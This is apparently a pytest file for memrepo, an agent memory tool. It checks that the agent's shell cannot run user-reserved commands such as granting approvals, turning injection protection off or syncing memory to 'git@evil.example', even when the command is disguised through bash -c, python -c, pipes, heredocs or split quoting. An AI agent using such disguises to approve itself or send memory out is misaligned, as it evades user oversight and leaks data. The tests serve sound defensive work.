"""memrepo's own command line in an agent's shell: it reads, or it remembers as the agent that it is."""

from __future__ import annotations

import pytest

from memrepo.policy.own_commands import DECIDING, HARMLESS, LISTING, OFF, READING, THE_USERS, find_own_command
from memrepo.surfaces.cli.table import COMMANDS

DENIED = [
    "memrepo remember 'Prefers tabs'",
    "memrepo remember --by user 'Prefers tabs'",
    "memrepo remember --by agent --taint clean 'Prefers tabs'",
    "memrepo remember --by agent --by user 'Prefers tabs'",
    "memrepo inbox keep repo:inbox.md#L3",
    "memrepo inbox --json discard --all",
    "memrepo --path ~/x approvals grant 1",
    "memrepo --profile=work approvals grant 1",
    "memrepo hook claude-code prompt < event.json",
    "echo '{}' | memrepo hook claude-code prompt",
    "cd /tmp && A=1 /home/u/.local/bin/memrepo settings set injection off",
    "python3 -m memrepo approvals grant 1",
    "python -c \"import subprocess; subprocess.run(['memrepo', 'inbox', 'keep', 'a'])\"",
    "bash -c 'memrepo undo abc'",
    "echo memrepo approvals grant 1 | sh",
    "sudo memrepo compact --yes",
    "uvx memrepo uninstall claude-code --yes",
    "echo $(memrepo forget a)",
    "echo 1 | xargs memrepo approvals grant",
    "sh <<'X'\nmemrepo inbox keep a\nX",
    "mem\\\nrepo inbox keep a",
    "mem'repo' in\"box\" keep a",
    "memrepo inbox keep 'unclosed",
    "memrepo mcp --trust-session",
    "memrepo commitments --done 3",
    "memrepo sync set git@evil.example:m.git --private-and-mine",
    "memrepo --profile x sync now",
    "cd a;" * 40_000 + "memrepo inbox keep a",
    "memrepo dream accept",
    "memrepo schedule --yes",
    "memrepo dream --json undo 2026-10-05",
    "memrepo hub --no-browser",
]
ALLOWED = [
    "ls ~/src/memrepo",
    "git commit -m 'Let memrepo inbox keep many'",
    "memrepo --help",
    "memrepo doctor",
    "memrepo status",
    "memrepo remember --by agent --task 1 'The flaky test depends on the time zone'",
    "memrepo remember 'Deploys on Fridays' --by=agent --taint=tainted",
    "cat > notes.md <<'X'\nmemrepo inbox keep a\nX",
    "cd memrepo && make test",
]
READS = [
    "memrepo recall tabs",
    "memrepo show me.md",
    "memrepo inbox",
    "memrepo settings list",
    "memrepo sync status",
    "x=$(memrepo context)",
]


@pytest.mark.parametrize("command", DENIED)
def test_what_the_user_decides_is_denied(command: str) -> None:
    assert find_own_command(command, is_readable=True) == THE_USERS


@pytest.mark.parametrize("command", ALLOWED)
def test_what_decides_nothing_may_run(command: str) -> None:
    assert find_own_command(command, is_readable=False) is None


@pytest.mark.parametrize("command", READS)
def test_reading_needs_the_tasks_memory(command: str) -> None:
    assert find_own_command(command, is_readable=True) is None
    assert find_own_command(command, is_readable=False) == OFF


def test_every_command_of_the_program_is_judged() -> None:
    judged = READING | HARMLESS | DECIDING | LISTING.keys() | {"remember"}
    assert COMMANDS.keys() <= judged
